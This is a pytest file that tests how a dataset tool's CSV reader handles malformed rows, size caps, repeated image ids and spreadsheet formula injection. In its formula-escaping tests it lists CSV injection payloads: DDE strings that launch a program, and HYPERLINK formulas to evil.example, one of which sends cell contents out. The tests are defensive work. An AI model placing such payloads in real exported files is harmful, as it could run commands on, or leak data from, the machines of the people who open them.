"""Clumsy and hostile tables: malformed rows, oversized cells, repeated image ids, spreadsheet formulas."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from scinsearch import cells, tables, testing
from scinsearch.cli import cli
from scinsearch.dataset import read_csv, read_flat_csv, read_release
from scinsearch.errors import ScinSearchError
from scinsearch.pipeline import run_embed
from scinsearch.prepare import prepare_metadata
from scinsearch.settings import Settings
from scinsearch.store import open_store

FLAT_HEADER = ["image_id", "image_path", "case_id", "condition", "description"]


def write_rows(path: Path, rows: list[list[str]], header=FLAT_HEADER) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def images(folder: Path, *names: str) -> Path:
    for name in names:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(testing.png_bytes((8, 8)))
    return folder


def replace_in_cells(path: Path, old: str, new: str) -> None:
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        columns, rows = reader.fieldnames, list(reader)
    testing.write_table(path, columns, [{k: v.replace(old, new) for k, v in row.items()} for row in rows])


def embed(data, embedder, store):
    return run_embed(data, embedder, store, batch_size=4, workers=0, progress=False, warn=lambda message: None)


# ------------------------------------------------------------------ one malformed row (item 11)


def test_a_malformed_row_is_reported_by_line_and_the_rest_is_read(tmp_path):
    path = tmp_path / "flat.csv"
    path.write_text(
        "image_id,image_path,case_id\n"
        "1,a.png,c1\n"
        "2,b.png,c2,an extra field\n"  # line 3: pandas raised on this and the whole file failed
        "3,c.png,c3\n"
        "4,d.png\n"  # line 5: a field short
        '5,"e.png\nsplit over two lines",c5\n'  # lines 6-7: a quoted newline is fine
        "6,f.png,c6\n",
        encoding="utf-8",
    )
    warnings: list[str] = []
    frame = read_csv(path, warnings)
    assert frame["image_id"].tolist() == ["1", "3", "5", "6"]
    assert frame.index.tolist() == [2, 4, 6, 8]  # the line each row starts on
    assert warnings == [
        "flat.csv line 3: 4 fields where the header has 3: left out",
        "flat.csv line 5: 2 fields where the header has 3: left out",
    ]
    with pytest.raises(ScinSearchError, match="line 3: 4 fields"):  # without a list to report to: an error
        read_csv(path)


def test_every_cell_is_capped_not_only_the_literal_columns(tmp_path):
    folder = images(tmp_path / "images", "a.png", "b.png")
    huge = "x" * (cells.MAX_CELL_CHARS + 1)
    flat = write_rows(
        tmp_path / "flat.csv", [["1", "a.png", "c1", "Eczema", huge], ["2", "b.png", "c2", "Tinea", "ok"]]
    )
    data = read_flat_csv(flat, folder)
    assert [r.image_id for r in data.records] == ["2"]
    assert any(f"line 2: column 'description' holds {len(huge)} characters (limit" in w for w in data.warnings)


def test_a_cell_past_the_csv_modules_own_limit_is_one_bad_line_too(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("a,b\n1," + "y" * 200_000 + "\n2,z\n", encoding="utf-8")
    warnings: list[str] = []
    assert read_csv(path, warnings)["a"].tolist() == ["2"] and "line 2: field larger than field limit" in warnings[0]


def test_bytes_that_are_not_utf8_spoil_their_row_only(tmp_path):
    path = tmp_path / "t.csv"
    path.write_bytes(b"a,b\n1,caf\xe9\n2,ok\n")
    warnings: list[str] = []
    assert read_csv(path, warnings)["a"].tolist() == ["2"] and "column 'b' is not UTF-8" in warnings[0]


def test_the_file_size_is_capped(tmp_path, monkeypatch):
    path = write_rows(tmp_path / "flat.csv", [["1", "a.png", "c1", "", ""]] * 200)
    monkeypatch.setattr(tables, "MAX_CSV_BYTES", 1024)
    with pytest.raises(ScinSearchError, match=r"limit 0 MiB\): the wrong file"):
        read_csv(path, [])


@pytest.mark.parametrize(
    "content, message", [("a,a\n1,2\n", "repeated column name"), ("\n\n", "no header row"), ("a\n" + "\n", None)]
)
def test_whole_file_problems_are_one_line(tmp_path, content, message):
    path = tmp_path / "t.csv"
    path.write_text(content, encoding="utf-8")
    if message is None:
        assert read_csv(path, []).empty  # a header and no rows: nothing to read, not an error
    else:
        with pytest.raises(ScinSearchError, match=message):
            read_csv(path, [])


def test_a_malformed_row_in_the_release_loses_that_case_only(clean_release, tmp_path):
    copy = shutil.copytree(clean_release, tmp_path / "scin")
    cases = copy / "dataset" / "scin_cases.csv"
    lines = cases.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[3] = lines[3].rstrip("\n") + ",one field too many\n"
    cases.write_text("".join(lines), encoding="utf-8")
    before, after = read_release(clean_release), read_release(copy)
    lost = {r.payload["case_id"] for r in before.records} - {r.payload["case_id"] for r in after.records}
    assert len(lost) == 1 and len(after.records) < len(before.records)
    assert any(w.startswith("scin_cases.csv line 4: ") and "left out" in w for w in after.warnings)


# ------------------------------------------------------------------ repeated image ids (item 10)


def test_two_files_with_one_stem_in_the_release_are_both_refused_and_named(clean_release, tmp_path, spy_embedder):
    copy = shutil.copytree(clean_release, tmp_path / "scin")
    cases_csv = copy / "dataset" / "scin_cases.csv"
    with cases_csv.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        columns, rows = reader.fieldnames, list(reader)
    stem = Path(rows[0]["image_1_path"]).stem
    twin = f"dataset/elsewhere/{stem}.png"  # same file name, another folder, another picture
    images(copy, twin)
    rows[5]["image_3_path"] = twin
    testing.write_table(cases_csv, columns, rows)
    data = read_release(copy)
    assert stem not in {r.image_id for r in data.records}  # not one point for two pictures (last write won)
    assert sorted(path for path, _ in data.refused) == sorted([str(copy / rows[0]["image_1_path"]), str(copy / twin)])
    (warning,) = [w for w in data.warnings if stem in w]
    assert rows[0]["image_1_path"] in warning and twin in warning and "none is stored" in warning
    store = open_store(Settings(qdrant_path=tmp_path / "q", collection="c"))
    summary = embed(data, spy_embedder, store)
    assert not summary.complete and {path for path, _ in summary.failed} == {path for path, _ in data.refused}
    assert summary.total == len(data.records) + 2 and store.count() == len(data.records)
    store.close()


def test_the_flat_csv_merges_a_repeated_image_and_refuses_a_reused_id(tmp_path):
    folder = images(tmp_path / "images", "a.png", "b.png", "sub/b.png", "c.png")
    flat = write_rows(
        tmp_path / "flat.csv",
        [
            ["1", "a.png", "case1", "Eczema", ""],
            ["1", "a.png", "case2", "Eczema", ""],  # the legacy file: a shared image once per case
            ["2", "b.png", "case3", "Tinea", ""],
            ["2", "sub/b.png", "case4", "Tinea", ""],  # another file under the same id
            ["", "c.png", "case5", "Acne", ""],
        ],
    )
    data = read_flat_csv(flat, folder)
    assert [r.image_id for r in data.records] == ["1", "c"]
    assert data.records[0].payload["case_ids"] == ["case1", "case2"]
    assert sorted(Path(path).relative_to(folder).as_posix() for path, _ in data.refused) == ["b.png", "sub/b.png"]
    assert any("flat.csv line 3 repeats flat.csv line 2" in w and "stored once" in w for w in data.warnings)
    assert any(
        "image id 2 belongs to 2 different files" in w and "line 4" in w and "line 5" in w for w in data.warnings
    )


# ------------------------------------------------------------------ spreadsheet formulas (item 11)


@pytest.mark.parametrize(
    "value, written",
    [
        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "''=already quoted"),
        ("'plain", "''plain"),
        ("-5669089898008966381", "-5669089898008966381"),  # SCIN ids and paths stay as they are
        ("-5669089898008966381.png", "-5669089898008966381.png"),
        ("+3.5", "+3.5"),
        ("Eczema", "Eczema"),
        ("", ""),
    ],
)
def test_cells_are_neutralised_for_spreadsheets_and_read_back_exactly(value, written):
    assert cells.to_csv_cell(value) == written
    assert cells.from_csv_cell(written) == value


def test_prepare_writes_no_formula_and_embed_reads_the_values_back(clean_release, tmp_path):
    copy = shutil.copytree(clean_release, tmp_path / "scin")
    labels_csv, cases_csv = copy / "dataset" / "scin_labels.csv", copy / "dataset" / "scin_cases.csv"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    replace_in_cells(labels_csv, "'Eczema'", repr(formula))
    replace_in_cells(cases_csv, "AGE_18_TO_29", "@AGE")
    out = tmp_path / "flat.csv"
    prepare_metadata(copy, out)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    written = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in written if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in written if cell.startswith("-") and not cells.PLAIN_NUMBER.fullmatch(cell)]
    assert "'" + formula in {row["condition"] for row in rows} and "'@AGE" in {row["age_group"] for row in rows}
    assert any(row["image_id"].startswith("-") for row in rows)  # negative ids written as they are
    data = read_flat_csv(out, copy / "dataset" / "images")
    assert formula in {r.payload["condition"] for r in data.records}
    assert "@AGE" in {r.payload["age_group"] for r in data.records}
    release = {r.image_id: r.payload for r in read_release(copy).records}
    for record in data.records:
        for field in ("condition", "age_group", "image_path"):
            expected = release[record.image_id][field]
            if field == "image_path":
                expected = Path(expected).name
            assert record.payload[field] == expected, field


# ------------------------------------------------------------------ the shape of a table (issue 23)


def test_columns_over_the_cap_are_one_line_at_the_header(tmp_path):
    """The issue's file: a million empty columns made `embed` take 8 minutes and 7.5 GB."""
    path = tmp_path / "wide.csv"
    path.write_text("," * 1_000_000 + "\n" + "," * 1_000_000 + "\n", encoding="utf-8")
    with pytest.raises(ScinSearchError, match=r"1,000,001 columns \(limit 1,000;") as failure:
        read_csv(path, [])
    assert "\n" not in str(failure.value)
    at_cap = write_rows(tmp_path / "at-cap.csv", [["1"] * tables.MAX_CSV_COLUMNS], [f"c{i}" for i in range(1000)])
    assert read_csv(at_cap, []).shape == (1, tables.MAX_CSV_COLUMNS)


def test_rows_over_the_cap_are_one_line_malformed_and_blank_ones_included(tmp_path, monkeypatch):
    """The issue's file: 30 million one-field rows took 5 minutes, 8.2 GB and printed 30 million warnings."""
    monkeypatch.setattr(tables, "MAX_CSV_ROWS", 50)
    assert len(read_csv(write_rows(tmp_path / "ok.csv", [["1", "a.png", "c1", "", ""]] * 50), [])) == 50
    for name, rows in [
        ("good", [["1", "a.png", "c1", "", ""]] * 51),
        ("one-field", [["x"]] * 1000),
        ("blank", [[]] * 1000),
    ]:
        warnings: list[str] = []
        with pytest.raises(ScinSearchError, match=r"over 50 rows \(limits: 50 rows, 5,000,000 cells"):
            read_csv(write_rows(tmp_path / f"{name}.csv", rows), warnings)
        assert len(warnings) <= 50  # nothing past the cap is parsed, nor warned about


def test_cells_over_the_cap_are_one_line(tmp_path, monkeypatch):
    monkeypatch.setattr(tables, "MAX_CSV_CELLS", 100)  # 20 rows of FLAT_HEADER's 5 columns
    assert len(read_csv(write_rows(tmp_path / "ok.csv", [["1", "a.png", "c1", "", ""]] * 20), [])) == 20
    with pytest.raises(ScinSearchError, match="over 20 rows"):
        read_csv(write_rows(tmp_path / "big.csv", [["1", "a.png", "c1", "", ""]] * 21), [])


def test_the_caps_are_far_above_scins_tables():
    """SCIN: the cases CSV about 5,033 rows x 57 columns, the flat CSV about 10,400 rows x 40 columns."""
    assert tables.MAX_CSV_COLUMNS >= 10 * 60 and tables.MAX_CSV_ROWS >= 10 * 10_400
    assert tables.MAX_CSV_CELLS >= 10 * 10_400 * 40


def test_warnings_are_summarised_after_the_first_twenty(clean_release, tmp_path):
    copy = shutil.copytree(clean_release, tmp_path / "scin")
    cases = copy / "dataset" / "scin_cases.csv"
    with cases.open("a", encoding="utf-8") as handle:
        handle.write("one field\n" * 100)
    # through the group: a subcommand invoked alone caches a help option without the group's `-h`
    result = CliRunner().invoke(cli, ["prepare", "--scin-dir", str(copy), "--out", str(tmp_path / "flat.csv")])
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.output.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == 21 and warnings[-1] == "warning: ... and 80 more"
    assert all("1 fields where the header has" in line for line in warnings[:20])
